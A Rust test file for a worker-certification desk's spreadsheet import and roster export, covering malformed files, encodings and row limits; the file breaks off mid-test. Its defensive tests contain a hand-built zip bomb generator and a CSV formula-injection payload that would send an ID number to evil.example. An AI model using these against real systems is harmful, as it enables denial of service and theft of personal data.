//! Importing workers from real spreadsheets (written here with rust_xlsxwriter, or made by
//! hand to be broken), and the roster round trip (exported, read back with calamine).
//!
//! Every bad input gets a report line with its row, column and code, and changes nothing;
//! good rows go in once, however often the same file is imported.

use std::path::Path;

use calamine::{Data, Reader, Xlsx};
use certdesk_store::{Desk, ImportOptions, ImportReport, RosterFilter, RosterFormat, SessionUser};
use certdesk_testkit::id_number;
use rust_xlsxwriter::{ExcelDateTime, Format, Formula, Workbook};

use crate::common::fresh;

/// A valid ID number for the i-th test person.
fn id(i: usize) -> String {
    id_number(i as u32)
}

/// A cell to write.
enum C {
    S(String),
    N(f64),
    /// A formula with its cached result.
    F(&'static str, String),
    D(u16, u8, u8),
    Blank,
}

fn s(t: impl Into<String>) -> C {
    C::S(t.into())
}

const HEADERS: [&str; 9] = ["姓名", "身份证号", "手机号", "住址", "服务类型", "紧急联系人", "紧急联系人电话", "征信授权日期", "企业核实"];

fn good_row(i: usize) -> Vec<C> {
    vec![
        s(format!("张{}", ["三", "四", "五", "六", "七"][i % 5])),
        s(id(i)),
        s(format!("138{:08}", i)),
        s("上海市徐汇区漕溪北路2号"),
        s("保洁、育婴"),
        s("李四"),
        s("13900000000"),
        s("2026-01-05"),
        s("是"),
    ]
}

fn write_xlsx(path: &Path, headers: &[&str], rows: &[Vec<C>]) {
    write_xlsx_with(path, headers, rows, |_| {});
}

fn write_xlsx_with(path: &Path, headers: &[&str], rows: &[Vec<C>], extra: impl FnOnce(&mut rust_xlsxwriter::Worksheet)) {
    let mut book = Workbook::new();
    let ws = book.add_worksheet();
    let date = Format::new().set_num_format("yyyy/m/d");
    for (c, h) in headers.iter().enumerate() {
        ws.write_string(0, c as u16, *h).unwrap();
    }
    for (r, row) in rows.iter().enumerate() {
        let r = r as u32 + 1;
        for (c, cell) in row.iter().enumerate() {
            let c = c as u16;
            match cell {
                C::S(t) => {
                    ws.write_string(r, c, t).unwrap();
                }
                C::N(n) => {
                    ws.write_number(r, c, *n).unwrap();
                }
                C::F(f, v) => {
                    ws.write_formula(r, c, Formula::new(*f).set_result(v.clone())).unwrap();
                }
                C::D(y, m, d) => {
                    ws.write_date_with_format(r, c, ExcelDateTime::from_ymd(*y, *m, *d).unwrap(), &date).unwrap();
                }
                C::Blank => {}
            }
        }
    }
    extra(ws);
    book.save(path).unwrap();
}

fn counts(dir: &Path) -> (i64, i64, i64) {
    let conn = certdesk_store::open_raw(dir).unwrap();
    let q = |sql: &str| conn.query_row(sql, [], |r| r.get::<_, i64>(0)).unwrap();
    (q("SELECT count(*) FROM workers"), q("SELECT count(*) FROM audit"), q("SELECT count(*) FROM outbox"))
}

fn import(desk: &mut Desk, me: &SessionUser, path: &Path) -> ImportReport {
    let bytes = std::fs::read(path).unwrap();
    desk.import_workers(me, &bytes, &ImportOptions { preview_rows: 10, ..Default::default() }, &mut |_, _| {}).unwrap()
}

/// (row, column, code) of every report line.
fn lines(r: &ImportReport) -> Vec<(usize, Option<String>, String)> {
    r.issues.iter().map(|i| (i.row, i.column.clone(), i.code.clone())).collect()
}

#[test]
fn a_good_xlsx_is_imported_in_one_go_and_reimporting_it_duplicates_nothing() {
    let dir = tempfile::tempdir().unwrap();
    let (mut desk, me) = fresh(dir.path());
    let file = dir.path().join("workers.xlsx");
    let rows: Vec<Vec<C>> = (0..25).map(good_row).collect();
    write_xlsx(&file, &HEADERS, &rows);
    let mut calls = Vec::new();
    let bytes = std::fs::read(&file).unwrap();
    let r = desk.import_workers(&me, &bytes, &ImportOptions::default(), &mut |done, total| calls.push((done, total))).unwrap();
    assert_eq!((r.file_kind.code(), r.total_rows, r.imported, r.invalid_rows), ("xlsx", 25, 25, 0));
    assert!(r.issues.is_empty(), "{:?}", r.issues);
    assert_eq!(calls.last(), Some(&(50, 50)), "progress ends at the total (checking, then writing)");
    assert!(calls.windows(2).all(|w| w[0].0 <= w[1].0 && w[0].1 == w[1].1), "one bar that only moves forward: {calls:?}");
    assert_eq!(r.mapping.iter().map(|m| m.column.as_str()).collect::<Vec<_>>(), ["A", "B", "C", "D", "E", "F", "G", "H", "I"]);
    let w = desk.worker(&r.worker_ids[0]).unwrap();
    assert_eq!((w.name.as_str(), w.service_types.len(), w.consent_date.as_str()), ("张三", 2, "2026-01-05"));
    assert_eq!(desk.timeline(certdesk_store::AuditEntity::Worker, &w.id).unwrap()[0].user, "王经理", "the signed-in user is the actor");

    let before = counts(dir.path());
    let again = import(&mut desk, &me, &file);
    assert_eq!((again.imported, again.already_enrolled, again.invalid_rows), (0, 25, 0));
    assert!(again.issues.iter().all(|i| i.code == "already_enrolled" && i.severity == "skipped"));
    assert_eq!(counts(dir.path()), before, "re-importing the same file writes nothing");
}

#[test]
fn invalid_rows_are_reported_by_row_and_column_and_change_nothing_while_valid_rows_go_in() {
    let dir = tempfile::tempdir().unwrap();
    let (mut desk, me) = fresh(dir.path());
    let file = dir.path().join("mixed.xlsx");
    let mut bad_check = good_row(1);
    bad_check[1] = s("110105194912310025");
    let mut bad_phone = good_row(2);
    bad_phone[2] = s("1380013800");
    let mut lost_digits = good_row(3);
    lost_digits[1] = C::N(310104198001040000.0);
    let mut no_check = good_row(4);
    no_check[8] = s("否");
    let dup = good_row(0);
    let rows = vec![good_row(0), bad_check, bad_phone, lost_digits, no_check, dup];
    write_xlsx(&file, &HEADERS, &rows);
    let before = counts(dir.path());
    let r = import(&mut desk, &me, &file);
    assert_eq!(
        lines(&r),
        [
            (3, Some("B".into()), "id_check".into()),
            (4, Some("C".into()), "phone_invalid".into()),
            (5, Some("B".into()), "id_number_as_number".into()),
            (6, Some("I".into()), "agency_check_missing".into()),
            (7, Some("B".into()), "duplicate_in_file".into()),
        ]
    );
    let lost = &r.issues[2];
    assert!(lost.message_zh.contains("无法恢复") && lost.message_zh.contains("文本"), "{}", lost.message_zh);
    assert!(r.issues[4].message_zh.contains("第 2 行"), "names the first occurrence: {}", r.issues[4].message_zh);
    assert_eq!((r.imported, r.invalid_rows), (1, 5));
    let after = counts(dir.path());
    assert_eq!(after.0, before.0 + 1, "only the valid row went in");
}

#[test]
fn a_title_row_merged_cells_formulas_blank_rows_and_every_excel_date_form_are_read() {
    let dir = tempfile::tempdir().unwrap();
    let (mut desk, me) = fresh(dir.path());
    let file = dir.path().join("messy.xlsx");
    let dates = [
        C::D(2026, 1, 5),
        C::N(46027.0),
        s("2026/1/5"),
        s("2026年1月5日"),
        s("20260105"),
        C::N(20260105.0),
        s("2026.1.5"),
    ];
    let mut rows: Vec<Vec<C>> = Vec::new();
    // Row 2 of the sheet is the header (row 1 is a merged title); data from row 3.
    rows.push(HEADERS.iter().map(|h| s(*h)).collect());
    for (i, d) in dates.into_iter().enumerate() {
        let mut row = good_row(i);
        row[7] = d;
        if i == 1 {
            row[0] = C::F("=\"张\"&\"九\"", "张九".into());
        }
        if i == 2 {
            // Merged with the row above: the service type shows in both rows.
            row[4] = C::Blank;
        }
        rows.push(row);
        if i == 3 {
            rows.push((0..9).map(|_| C::Blank).collect());
            rows.push(vec![s("  "), C::Blank, s("")]);
        }
    }
    write_xlsx_with(&file, &["上海好帮手家政 2026年1月新员工名单"], &rows, |ws| {
        ws.merge_range(0, 0, 0, 8, "上海好帮手家政 2026年1月新员工名单", &Format::new()).unwrap();
        ws.merge_range(3, 4, 4, 4, "保洁", &Format::new()).unwrap();
    });
    let r = import(&mut desk, &me, &file);
    assert_eq!(r.header_row, 2);
    assert!(r.issues.is_empty(), "{:?}", r.issues);
    assert_eq!((r.imported, r.blank_rows), (7, 1), "a row of spaces is blank (an empty row is not even in the file)");
    let names: Vec<String> = r.worker_ids.iter().map(|id| desk.worker(id).unwrap().name).collect();
    assert_eq!(names[1], "张九", "a formula's cached value is read");
    for id in &r.worker_ids {
        assert_eq!(desk.worker(id).unwrap().consent_date, "2026-01-05");
    }
    assert_eq!(desk.worker(&r.worker_ids[2]).unwrap().service_types, ["cleaning"], "a merged cell applies to every row it spans");
}

#[test]
fn a_group_header_merged_over_its_sub_headers_is_read_as_two_rows() {
    let dir = tempfile::tempdir().unwrap();
    let (mut desk, me) = fresh(dir.path());
    let file = dir.path().join("two-rows.xlsx");
    // Row 1: 姓名 … 紧急联系人 (merged over F:G) …; row 2: 姓名 | 电话 under it.
    let top = ["姓名", "身份证号", "手机号", "住址", "服务类型", "紧急联系人", "", "征信授权日期", "企业核实"];
    let mut sub: Vec<C> = (0..9).map(|_| C::Blank).collect();
    sub[5] = s("姓名");
    sub[6] = s("电话");
    let rows = vec![sub, good_row(0), good_row(1)];
    write_xlsx_with(&file, &top, &rows, |ws| {
        ws.merge_range(0, 5, 0, 6, "紧急联系人", &Format::new()).unwrap();
        for c in [0u16, 1, 2, 3, 4, 7, 8] {
            ws.merge_range(0, c, 1, c, top[c as usize], &Format::new()).unwrap();
        }
    });
    let r = import(&mut desk, &me, &file);
    let headers: Vec<(&str, &str)> = r.mapping.iter().map(|m| (m.field.as_str(), m.header.as_str())).collect();
    assert!(headers.contains(&("emergency_contact_name", "紧急联系人姓名")), "{headers:?}");
    assert!(headers.contains(&("emergency_contact_phone", "紧急联系人电话")), "{headers:?}");
    assert!(headers.contains(&("name", "姓名")), "a header merged down both rows reads once: {headers:?}");
    assert_eq!((r.imported, r.invalid_rows), (2, 0), "{:?}", r.issues);
    assert_eq!(r.issues.len(), 0);
}

#[test]
fn wrong_headers_are_refused_naming_the_missing_columns() {
    let dir = tempfile::tempdir().unwrap();
    let (mut desk, me) = fresh(dir.path());
    let file = dir.path().join("wrong.xlsx");
    write_xlsx(&file, &["名字", "证件", "Phone", "备注"], &[vec![s("张三"), s(id(1)), s("13800138000"), s("x")]]);
    let before = counts(dir.path());
    let err = desk.import_workers(&me, &std::fs::read(&file).unwrap(), &ImportOptions::default(), &mut |_, _| {}).unwrap_err();
    assert_eq!(err.code, "import_headers_missing");
    let missing: Vec<&str> = err.fields.iter().map(|f| f.field.as_str()).collect();
    // The address and emergency contact are not needed columns: rows without them go in as
    // 待补全 (see `a_staff_sheet_without_addresses_or_emergency_contacts_goes_in_to_be_completed`).
    assert_eq!(missing, ["id_number", "service_types"]);
    assert!(err.message_zh.contains("身份证号") && err.message_zh.contains("证件"), "names what is missing and what was found: {}", err.message_zh);
    assert_eq!(counts(dir.path()), before);
}

#[test]
fn a_file_without_consent_or_agency_check_columns_needs_the_clerks_confirmation() {
    let dir = tempfile::tempdir().unwrap();
    let (mut desk, me) = fresh(dir.path());
    let file = dir.path().join("short.xlsx");
    let rows: Vec<Vec<C>> = (0..3).map(|i| good_row(i).into_iter().take(7).collect()).collect();
    write_xlsx(&file, &HEADERS[..7], &rows);
    let bytes = std::fs::read(&file).unwrap();
    let preview = desk.preview_import(&bytes, &ImportOptions { preview_rows: 2, ..Default::default() }).unwrap();
    assert!(preview.needs_consent_date && preview.needs_agency_check);
    assert!(preview.issues.is_empty(), "the file-wide confirmation is asked once, not per row: {:?}", preview.issues);
    assert_eq!(preview.preview.len(), 2);
    assert_eq!(preview.preview[0].status, "needs_confirmation");
    let before = counts(dir.path());
    let err = desk.import_workers(&me, &bytes, &ImportOptions::default(), &mut |_, _| {}).unwrap_err();
    assert_eq!(err.code, "import_needs_consent_date");
    let only_date = ImportOptions { consent_date: Some("2026-01-05".into()), ..Default::default() };
    assert_eq!(desk.import_workers(&me, &bytes, &only_date, &mut |_, _| {}).unwrap_err().code, "import_needs_agency_check");
    assert_eq!(counts(dir.path()), before);
    let confirmed = ImportOptions { consent_date: Some("2026-01-05".into()), agency_checked: true, preview_rows: 0 };
    let r = desk.import_workers(&me, &bytes, &confirmed, &mut |_, _| {}).unwrap();
    assert_eq!(r.imported, 3);
    assert!(desk.worker(&r.worker_ids[0]).unwrap().agency_check_done);
}

#[test]
fn a_gbk_csv_from_excel_on_chinese_windows_is_read() {
    let dir = tempfile::tempdir().unwrap();
    let (mut desk, me) = fresh(dir.path());
    let mut text = HEADERS.join(",") + "\r\n";
    text += &format!("张三,{},13800138000,上海市徐汇区某路1号,保洁,李四,021-64870000,2026/1/5,是\r\n", id(1));
    text += "李梅,1.10105E+17,13800138001,上海市徐汇区某路2号,育婴,王五,13900000000,2026/1/5,是\r\n";
    let (gbk, _, _) = encoding_rs::GBK.encode(&text);
    let r = desk.import_workers(&me, &gbk, &ImportOptions::default(), &mut |_, _| {}).unwrap();
    assert_eq!((r.file_kind.code(), r.encoding.as_deref()), ("csv", Some("gb18030")));
    assert_eq!(r.imported, 1);
    assert_eq!(lines(&r), [(3, Some("B".into()), "id_number_as_number".into())]);
    assert_eq!(desk.worker(&r.worker_ids[0]).unwrap().name, "张三");
    // The same content in UTF-8 with a BOM: everything already enrolled, nothing new.
    let utf8 = [b"\xEF\xBB\xBF".as_slice(), text.as_bytes()].concat();
    let again = desk.import_workers(&me, &utf8, &ImportOptions::default(), &mut |_, _| {}).unwrap();
    assert_eq!((again.encoding.as_deref(), again.already_enrolled, again.imported), (Some("utf-8"), 1, 0));
}

#[test]
fn files_that_are_not_spreadsheets_are_refused_clearly() {
    let dir = tempfile::tempdir().unwrap();
    let (mut desk, me) = fresh(dir.path());
    let before = counts(dir.path());
    let png = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\x01";
    let fake_zip = b"PK\x03\x04this is not really a zip at all";
    let xls = [0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1, 0, 0];
    for (bytes, code) in [
        (png.as_slice(), "not_a_spreadsheet"),
        (fake_zip.as_slice(), "not_a_spreadsheet"),
        (xls.as_slice(), "xls_unsupported"),
        (b"".as_slice(), "import_empty"),
        (b"hello world, this is a letter\n".as_slice(), "import_headers_missing"),
    ] {
        let err = desk.import_workers(&me, bytes, &ImportOptions::default(), &mut |_, _| {}).unwrap_err();
        assert_eq!(err.code, code);
        assert!(!err.message_zh.is_empty());
    }
    assert_eq!(counts(dir.path()), before);
}

#[test]
fn an_xlsx_with_a_cell_at_the_sheets_far_corner_does_not_allocate_the_whole_sheet() {
    let dir = tempfile::tempdir().unwrap();
    let (mut desk, me) = fresh(dir.path());
    let file = dir.path().join("far.xlsx");
    write_xlsx_with(&file, &HEADERS, &[good_row(0)], |ws| {
        ws.write_string(1_048_575, 16_383, "x").unwrap();
    });
    let r = import(&mut desk, &me, &file);
    assert_eq!(r.imported, 1);
}

#[test]
fn more_rows_than_the_cap_are_refused_before_anything_is_written() {
    let dir = tempfile::tempdir().unwrap();
    let (mut desk, me) = fresh(dir.path());
    let mut text = HEADERS.join(",") + "\n";
    for i in 0..certdesk_store::MAX_IMPORT_ROWS + 20 {
        text += &format!("张三,{},13800138000,a,保洁,李四,13900000000,2026-01-05,是\n", i);
    }
    let before = counts(dir.path());
    let err = desk.import_workers(&me, text.as_bytes(), &ImportOptions::default(), &mut |_, _| {}).unwrap_err();
    assert_eq!(err.code, "too_many_rows");
    assert_eq!(counts(dir.path()), before);
}

#[test]
fn the_report_can_be_saved_as_xlsx_and_csv_without_id_numbers() {
    let dir = tempfile::tempdir().unwrap();
    let (mut desk, me) = fresh(dir.path());
    let file = dir.path().join("bad.xlsx");
    let mut bad = good_row(1);
    bad[1] = s("110105194912310025");
    write_xlsx(&file, &HEADERS, &[bad]);
    let r = import(&mut desk, &me, &file);
    let xlsx = dir.path().join("report.xlsx");
    certdesk_store::write_import_report(&r, &xlsx).unwrap();
    let mut book: Xlsx<_> = calamine::open_workbook(&xlsx).unwrap();
    let range = book.worksheet_range_at(0).unwrap().unwrap();
    let row: Vec<String> = range.rows().nth(1).unwrap().iter().map(|c| c.to_string()).collect();
    assert_eq!(&row[..4], ["2", "B", "身份证号", "id_check"]);
    let csv = dir.path().join("report.csv");
    certdesk_store::write_import_report(&r, &csv).unwrap();
    let text = std::fs::read(&csv).unwrap();
    assert!(text.starts_with(b"\xEF\xBB\xBF"), "a BOM so Excel reads the Chinese");
    let text = String::from_utf8(text).unwrap();
    assert!(text.contains("id_check") && !text.contains("110105194912310025"), "the report never carries ID numbers");
}

#[test]
fn the_roster_round_trips_through_xlsx_with_id_numbers_and_phones_as_text() {
    let dir = tempfile::tempdir().unwrap();
    let (mut desk, me) = fresh(dir.path());
    let file = dir.path().join("w.xlsx");
    write_xlsx(&file, &HEADERS, &(0..5).map(good_row).collect::<Vec<_>>());
    let r = import(&mut desk, &me, &file);
    let first = &r.worker_ids[0];
    let c = desk
        .create_class(
            &me,
            &certdesk_domain::training::ClassInput {
                title: "在线课程".into(),
                mode: "online".into(),
                starts_at: "2026-01-10 09:00".into(),
                ends_at: "2026-01-10 12:00".into(),
                place: String::new(),
                trainer: "刘老师".into(),
                class_hours: 3.0,
            },
        )
        .unwrap();
    desk.add_to_class(&me, &c.id, first).unwrap();
    desk.record_attendance(&me, &c.id, first, &certdesk_store::AttendanceInput { hours_completed: Some(3.0), ..Default::default() }).unwrap();
    desk.record_exam(&me, &certdesk_store::ExamInput { worker: first.clone(), score: "87.5".into(), exam_date: Some("2026-01-10".into()), class_id: None }).unwrap();

    let check = certdesk_domain::health::HealthCheckInput {
        checked_on: "2026-01-05".into(),
        institution: "上海市徐汇区中心医院".into(),
        category: "居家".into(),
        result: "合格".into(),
        valid_until: None,
    };
    desk.record_health_check(&me, first, &check, None).unwrap();
    let policy = certdesk_domain::health::InsuranceInput {
        insurer: "中国平安".into(),
        policy_number: "PA-1".into(),
        kind: "雇主责任险".into(),
        valid_from: "2026-01-01".into(),
        valid_until: "2026-12-31".into(),
    };
    desk.record_insurance(&me, first, &policy).unwrap();

    let out = dir.path().join("roster.xlsx");
    let all = RosterFilter::everyone();
    let e = desk.export_roster(&me, &out, RosterFormat::Xlsx, &all).unwrap();
    assert_eq!(e.rows, 5);
    let mut book: Xlsx<_> = calamine::open_workbook(&out).unwrap();
    let range = book.worksheet_range("持证人员名册").unwrap();
    let rows: Vec<&[Data]> = range.rows().collect();
    let header: Vec<String> = rows[0].iter().map(|c| c.to_string()).collect();
    assert_eq!(header, certdesk_store::ROSTER_HEADERS);
    let w = desk.worker(first).unwrap();
    let row = rows.iter().find(|r| r[2] == Data::String(w.id_number.clone())).expect("the ID number is a text cell");
    assert_eq!(row[1], Data::String(w.name.clone()));
    assert_eq!(row[4], Data::String("上海好帮手家政服务有限公司".into()));
    assert_eq!(row[5], Data::String(w.phone.clone()), "the phone is a text cell");
    assert_eq!(row[6], Data::Float(87.5), "the score is a number");
    assert!(matches!(row[7], Data::DateTime(_)), "the exam date is a real date: {:?}", row[7]);
    assert_eq!(row[8], Data::Float(3.0));
    assert_eq!(row[11], Data::String("可申领".into()));
    assert!(matches!(row[12], Data::DateTime(_)), "the health check's date: {:?}", row[12]);
    assert_eq!((&row[13], &row[15]), (&Data::String("合格".into()), &Data::String("雇主责任险".into())));
    let no_health = rows.iter().find(|r| r[2] != Data::String(w.id_number.clone()) && r[0] != Data::String("序号".into())).unwrap();
    assert_eq!((&no_health[12], &no_health[15]), (&Data::Empty, &Data::Empty), "a worker without them has empty cells");
    for r in &rows[1..] {
        assert!(matches!(r[2], Data::String(_)), "every ID number stays text: {:?}", r[2]);
    }

    // Filters: by status and by exam date.
    let eligible = RosterFilter { statuses: vec![certdesk_domain::WorkerStatus::Eligible], ..Default::default() };
    assert_eq!(desk.export_roster(&me, &out, RosterFormat::Xlsx, &eligible).unwrap().rows, 1);
    let jan = RosterFilter { from: chrono::NaiveDate::from_ymd_opt(2026, 1, 1), to: chrono::NaiveDate::from_ymd_opt(2026, 1, 31), ..RosterFilter::everyone() };
    assert_eq!(desk.export_roster(&me, &out, RosterFormat::Xlsx, &jan).unwrap().rows, 1);
    let feb = RosterFilter { from: chrono::NaiveDate::from_ymd_opt(2026, 2, 1), ..jan.clone() };
    assert_eq!(desk.export_roster(&me, &out, RosterFormat::Xlsx, &feb).unwrap().rows, 0);
    assert_eq!(desk.export_roster(&me, &out, RosterFormat::Xlsx, &RosterFilter::default()).unwrap().rows, 0, "by default only certified workers");

    // CSV: UTF-8 with BOM, same rows, readable by the desk's own importer's reader.
    let csv = dir.path().join("roster.csv");
    desk.export_roster(&me, &csv, RosterFormat::Csv, &all).unwrap();
    let bytes = std::fs::read(&csv).unwrap();
    assert!(bytes.starts_with(b"\xEF\xBB\xBF"));
    let text = String::from_utf8(bytes[3..].to_vec()).unwrap();
    assert_eq!(text.lines().count(), 6);
    assert!(text.lines().next().unwrap().starts_with("序号,姓名,身份证号,上门服务证编码"));
    assert!(text.contains(&w.id_number));
}

// ---- a zip bomb lying about its size --------------------------------------------------------

/// CRC-32 (IEEE) of `data`, bit by bit: enough for the few hundred bytes of an .xlsx's parts.
fn crc32(data: &[u8]) -> u32 {
    let mut crc = !0u32;
    for &b in data {
        crc ^= b as u32;
        for _ in 0..8 {
            crc = if crc & 1 == 1 { (crc >> 1) ^ 0xEDB8_8320 } else { crc >> 1 };
        }
    }
    !crc
}

/// Bits packed least significant first, as DEFLATE wants them.
#[derive(Default)]
struct Bits {
    out: Vec<u8>,
    acc: u64,
    n: u32,
}

impl Bits {
    fn put(&mut self, value: u64, len: u32) {
        self.acc |= value << self.n;
        self.n += len;
        while self.n >= 8 {
            self.out.push(self.acc as u8);
            self.acc >>= 8;
            self.n -= 8;
        }
    }
    /// A Huffman code, which DEFLATE writes most significant bit first.
    fn code(&mut self, code: u32, len: u32) {
        self.put((code.reverse_bits() >> (32 - len)) as u64, len);
    }
    fn finish(mut self) -> Vec<u8> {
        if self.n > 0 {
            self.out.push(self.acc as u8);
        }
        self.out
    }
}

/// A DEFLATE stream (one block, fixed Huffman codes) that inflates to `prefix` followed by
/// `run` times 258 copies of `A`: each run of 258 is one 13-bit back-reference, so a GiB
/// takes under 7 MB.
fn deflate_bomb(prefix: &[u8], run: u64) -> Vec<u8> {
    let mut bits = Bits::default();
    bits.put(1, 1); // the final block
    bits.put(1, 2); // fixed Huffman codes
    let literal = |bits: &mut Bits, b: u8| {
        if b < 144 {
            bits.code(0x30 + b as u32, 8)
        } else {
            bits.code(0x190 + (b as u32 - 144), 9)
        }
    };
    for &b in prefix {
        literal(&mut bits, b);
    }
    literal(&mut bits, b'A');
    for _ in 0..run {
        bits.code(0xC0 + (285 - 280), 8); // length 258
        bits.code(0, 5); // distance 1
    }
    bits.code(0, 7); // end of block
    bits.finish()
}

/// One part of a zip: its name, method (0 stored, 8 deflated), data as stored, and the CRC
/// and uncompressed size the zip declares for it.
struct Part {
    name: &'static str,
    method: u16,
    data: Vec<u8>,
    crc: u32,
    declared: u32,
}

fn stored(name: &'static str, text: &str) -> Part {
    Part { name, method: 0, data: text.as_bytes().to_vec(), crc: crc32(text.as_bytes()), declared: text.len() as u32 }
}

/// A zip written byte by byte, so a part can declare any size it likes.
fn zip(parts: &[Part]) -> Vec<u8> {
    let (mut out, mut central) = (Vec::new(), Vec::new());
    let u16le = |v: &mut Vec<u8>, x: u16| v.extend_from_slice(&x.to_le_bytes());
    let u32le = |v: &mut Vec<u8>, x: u32| v.extend_from_slice(&x.to_le_bytes());
    for p in parts {
        let offset = out.len() as u32;
        u32le(&mut out, 0x0403_4b50);
        for x in [20, 0, p.method, 0, 0x21] {
            u16le(&mut out, x);
        }
        for x in [p.crc, p.data.len() as u32, p.declared] {
            u32le(&mut out, x);
        }
        u16le(&mut out, p.name.len() as u16);
        u16le(&mut out, 0);
        out.extend_from_slice(p.name.as_bytes());
        out.extend_from_slice(&p.data);
        u32le(&mut central, 0x0201_4b50);
        for x in [20, 20, 0, p.method, 0, 0x21] {
            u16le(&mut central, x);
        }
        for x in [p.crc, p.data.len() as u32, p.declared] {
            u32le(&mut central, x);
        }
        for x in [p.name.len() as u16, 0, 0, 0, 0] {
            u16le(&mut central, x);
        }
        u32le(&mut central, 0);
        u32le(&mut central, offset);
        central.extend_from_slice(p.name.as_bytes());
    }
    let cd_offset = out.len() as u32;
    let cd_size = central.len() as u32;
    out.extend_from_slice(&central);
    u32le(&mut out, 0x0605_4b50);
    for x in [0, 0, parts.len() as u16, parts.len() as u16] {
        u16le(&mut out, x);
    }
    u32le(&mut out, cd_size);
    u32le(&mut out, cd_offset);
    u16le(&mut out, 0);
    out
}

const SHEET_HEAD: &str = r#"<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>"#;

/// An .xlsx made by hand around `sheet` (the worksheet part): the four parts Excel needs.
fn xlsx_around(sheet: Part) -> Vec<u8> {
    zip(&[
        stored("[Content_Types].xml", r#"<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>"#),
        stored("_rels/.rels", r#"<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>"#),
        stored("xl/workbook.xml", r#"<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>"#),
        stored("xl/_rels/workbook.xml.rels", r#"<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>"#),
        sheet,
    ])
}

/// A worksheet row of inline strings.
fn xml_row(r: usize, cells: &[String]) -> String {
    let cells: String = cells
        .iter()
        .enumerate()
        .map(|(c, t)| format!(r#"<c r="{}{r}" t="inlineStr"><is><t>{t}</t></is></c>"#, (b'A' + c as u8) as char))
        .collect();
    format!(r#"<row r="{r}">{cells}</row>"#)
}

#[test]
fn a_zip_bomb_lying_about_its_size_is_refused_with_a_sentence_and_nothing_written() {
    let dir = tempfile::tempdir().unwrap();
    let (mut desk, me) = fresh(dir.path());
    let before = counts(dir.path());
    let headers: Vec<String> = HEADERS.iter().map(|h| h.to_string()).collect();
    let row: Vec<String> = ["张三", &id(1), "13800138000", "上海市徐汇区某路1号", "保洁", "李四", "021-64870000", "2026-01-05", "是"]
        .iter()
        .map(|s| s.to_string())
        .collect();
    let honest_xml = format!("{SHEET_HEAD}{}{}</sheetData></worksheet>", xml_row(1, &headers), xml_row(2, &row));

    // The hand-made file is a real .xlsx: honest, it imports.
    let honest = xlsx_around(stored("xl/worksheets/sheet1.xml", &honest_xml));
    let report = desk.import_workers(&me, &honest, &ImportOptions::default(), &mut |_, _| {}).unwrap();
    assert_eq!(report.imported, 1, "{:?}", report.issues);
    let before_bomb = counts(dir.path());
    assert_ne!(before_bomb, before);

    // The bomb: the same sheet's first cell then 1 GiB of `A` in one text node, under 7 MB of
    // file, declaring the honest sheet's few hundred bytes (and its CRC).
    let prefix = format!(r#"{SHEET_HEAD}<row r="1"><c r="A1" t="inlineStr"><is><t>"#);
    let data = deflate_bomb(prefix.as_bytes(), (1u64 << 30) / 258);
    let bomb = xlsx_around(Part {
        name: "xl/worksheets/sheet1.xml",
        method: 8,
        data,
        crc: crc32(honest_xml.as_bytes()),
        declared: honest_xml.len() as u32,
    });
    assert!((bomb.len() as u64) < certdesk_store::MAX_IMPORT_BYTES && bomb.len() < 7 << 20, "{}", bomb.len());
    let started = std::time::Instant::now();
    let err = desk.import_workers(&me, &bomb, &ImportOptions::default(), &mut |_, _| {}).unwrap_err();
    assert_eq!(err.code, "file_too_large", "{err:?}");
    assert!(err.message_zh.contains("压缩炸弹") && err.message_en.contains("zip bomb"), "{err:?}");
    // Refused at the first byte past the declared size, not after inflating the gigabyte.
    assert!(started.elapsed() < std::time::Duration::from_secs(5), "{:?}", started.elapsed());
    assert_eq!(counts(dir.path()), before_bomb, "nothing written");
}

#[test]
fn a_csv_the_desk_writes_never_hands_a_spreadsheet_a_formula() {
    let dir = tempfile::tempdir().unwrap();
    let (mut desk, me) = fresh(dir.path());
    // A name typed into the desk that a spreadsheet would run as a formula when the roster is
    // opened: it leaks the next cell (an ID number) to a web server when clicked.
    let hostile = r#"=HYPERLINK("http://evil.example/?"&C2,"上海好帮手家政服务有限公司")"#;
    let agency = certdesk_store::Agency { name: hostile.into(), ..certdesk_testkit::desk::agency() };
    desk.set_agency(&me, &agency).unwrap();
    let file = dir.path().join("in.csv");
    std::fs::write(&file, format!("{}\n张三,{},13800138000,上海市徐汇区某路1号,保洁,李四,021-64870000,2026-01-05,是\n", HEADERS.join(","), id(1))).unwrap();
    assert_eq!(import(&mut desk, &me, &file).imported, 1);

    let csv = dir.path().join("roster.csv");
    let all = RosterFilter::everyone();
    assert_eq!(desk.export_roster(&me, &csv, RosterFormat::Csv, &all).unwrap().rows, 1);
    let text = String::from_utf8(std::fs::read(&csv).unwrap()).unwrap();
    let quoted = |cell: &str| format!(",\"{}\",", cell.replace('"', "\"\""));
    assert!(text.contains(&quoted(&format!("'{hostile}"))), "the cell is text a spreadsheet shows, never runs: {text}");
    assert!(!text.contains(&quoted(hostile)), "{text}");
    // Every cell of every csv passes through the same function: the OWASP list of first
    // characters, and nothing else changes.
    for (cell, shown) in [
        ("=1+1", "'=1+1"),
        ("+86 138", "'+86 138"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
